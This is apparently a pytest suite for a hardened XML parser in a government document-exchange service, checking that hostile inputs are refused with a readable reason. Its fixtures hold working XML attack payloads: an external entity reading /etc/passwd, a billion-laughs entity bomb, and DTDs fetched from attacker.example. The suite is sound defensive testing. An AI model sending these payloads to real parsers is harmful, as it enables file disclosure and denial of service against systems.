"""Hostile XML is refused before anything is built from it, with a reason a person can read."""

import pytest

from documents.exchange import wire
from documents.exchange.wire import safexml
from documents.exchange.wire.safexml import ParseLimits, UnsafeXMLError

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Message xmlns="http://schemas.egov.bg/messaging/v1">&xxe;</Message>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Message>&lol9;</Message>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Message SYSTEM "http://attacker.example/evil.dtd"><Message/>"""

PARAMETER_ENTITY = (
    b"""<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><x/>"""
)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (XXE, "doctype"),
        (BILLION_LAUGHS, "doctype"),
        (EXTERNAL_DTD, "doctype"),
        (PARAMETER_ENTITY, "doctype"),
        (b"<a>" * 100 + b"</a>" * 100, "too_deep"),
        (b"<a>" * 100_000 + b"</a>" * 100_000, "too_deep"),  # far past libxml2's own 256
        (b"<m><AttBody>" + b"QUFB" * 300_000 + b"</AttBody></m>", "text_too_long"),
        (b"<m>" + b"<e/>" * 2_000 + b"</m>", "too_many_elements"),
        (b"<m>&undefined;</m>", "malformed"),
        (b"<m><unclosed></m>", "malformed"),
        (b"", "malformed"),
        (b"x" * 2_000_000, "too_large"),
    ],
    ids=[
        "external entity",
        "billion laughs",
        "external DTD",
        "parameter entity",
        "deep nesting",
        "very deep nesting",
        "huge base64",
        "too many elements",
        "undefined entity",
        "not well-formed",
        "empty",
        "oversize before parsing",
    ],
)
def test_hostile_input_is_refused(data, reason):
    limits = ParseLimits(max_bytes=1_500_000, max_depth=64, max_elements=1_000, max_text_chars=1_000_000)
    with pytest.raises(UnsafeXMLError) as exc:
        safexml.parse(data, limits)
    assert exc.value.reason == reason
    assert str(exc.value)  # a sentence for the error reply


def test_external_entity_content_never_appears():
    with pytest.raises(UnsafeXMLError):
        wire.read(XXE)


def test_size_is_checked_before_parsing():
    """An oversize body is refused by length alone: even garbage gets the size error, not a parse error."""
    with pytest.raises(UnsafeXMLError) as exc:
        safexml.parse(b"\x00" * 101, ParseLimits(max_bytes=100))
    assert exc.value.reason == "too_large"


def test_attachment_larger_than_libxml2s_text_limit_is_accepted_within_our_limits():
    """libxml2 alone refuses text nodes over 10,000,000 characters; a 10 MB attachment needs ~13.3 M."""
    text = b"QUFB" * 3_500_000  # 14,000,000 base64 characters = 10.5 MB of data
    root = safexml.parse(b"<m><AttBody>" + text + b"</AttBody></m>")
    assert len(root[0].text) == len(text)


def test_text_limit_counts_each_text_node_separately():
    data = b"<m>" + b"<t>" + b"A" * 900 + b"</t>" * 1 + b"<t>" + b"A" * 900 + b"</t></m>"
    safexml.parse(data, ParseLimits(max_text_chars=1000))


def test_comments_and_processing_instructions_are_harmless():
    root = safexml.parse(b"<?xml version='1.0'?><!-- note --><m><?pi data?><a/></m>")
    assert root.tag == "m"


def test_text_must_be_bytes():
    with pytest.raises(TypeError):
        safexml.parse("<m/>")
